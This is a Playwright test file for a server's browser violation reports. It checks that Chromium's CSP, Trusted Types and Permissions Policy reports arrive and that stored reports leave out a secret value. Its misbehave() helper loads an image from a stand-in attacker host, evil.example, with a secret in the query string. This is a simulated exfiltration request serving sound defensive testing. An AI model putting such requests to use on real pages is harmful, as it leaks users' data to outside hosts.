import { execFileSync } from "node:child_process";
import { expect, test } from "@playwright/test";
import { HttpsServer } from "../support/https-server.ts";
import { server } from "../support/server.ts";
import { TestServer } from "../support/test-server.ts";
import { freePort, until } from "../support/net.mjs";
import { chromiumPath } from "../support/chromium.mjs";

// What Chromium reports arrives. What is kept of it is in tests/http/browser_reports.rs.

interface Report {
  readonly kind: string;
  readonly page: string;
  readonly subject: string;
  readonly blocked: string;
}

/** What `vestibule reports list` has once `isThere`. */
async function reports(folder: string, isThere: (found: Report[]) => boolean): Promise<Report[]> {
  let found: Report[] = [];
  const list = () => {
    const line = ["reports", "list", "--json"];
    found = JSON.parse(execFileSync(server, line, { cwd: folder, encoding: "utf8", stdio: "pipe" })) as Report[];
    return isThere(found);
  };
  await until(list, "The reports do not arrive.").catch((error: unknown) => {
    throw new Error(`${error}: ${JSON.stringify(found)}`);
  });
  return found;
}

/** Does what the policies of the page forbid. */
function misbehave(): void {
  document.body.append(Object.assign(new Image(), { src: "https://evil.example/secret.png?secret" }));
  try {
    document.body.insertAdjacentHTML("beforeend", "<iframe>");
  } catch {
    // It is blocked.
  }
  navigator.geolocation.getCurrentPosition(() => {});
}

test("on https, by the Reporting API", async () => {
  const site = new HttpsServer();
  await site.start();
  // Otherwise Chromium waits for up to a minute.
  const browser = await site.browser(false, "--short-reporting-delay");
  const page = await browser.newPage();
  await page.goto(`${site.origin}/sign-in?next=%2Fsecret`);
  await page.evaluate(misbehave);
  const found = await reports(site.folder, (found) => found.length >= 3);
  const image = { kind: "csp-violation", page: "/sign-in", subject: "img-src", blocked: "https://evil.example" };
  expect(found).toContainEqual(expect.objectContaining(image));
  const sink = { subject: "require-trusted-types-for", blocked: "trusted-types-sink: Element insertAdjacentHTML" };
  expect(found).toContainEqual(expect.objectContaining(sink));
  const permission = { kind: "permissions-policy-violation", subject: "geolocation" };
  expect(found).toContainEqual(expect.objectContaining(permission));
  expect(JSON.stringify(found)).not.toContain("secret");
  await browser.close();
  await site.stop();
});

test("on http, by report-uri", async ({ playwright }) => {
  const site = new TestServer(await freePort(), {});
  await site.start();
  const browser = await playwright.chromium.launch({ executablePath: chromiumPath, args: ["--no-sandbox"] });
  const page = await browser.newPage();
  await page.goto(`${site.origin}/sign-in`);
  await page.evaluate(misbehave);
  const found = await reports(site.folder, (found) => found.length >= 2);
  expect(found.map(({ subject }) => subject).sort()).toEqual(["img-src", "require-trusted-types-for"]);
  await browser.close();
  await site.stop();
});
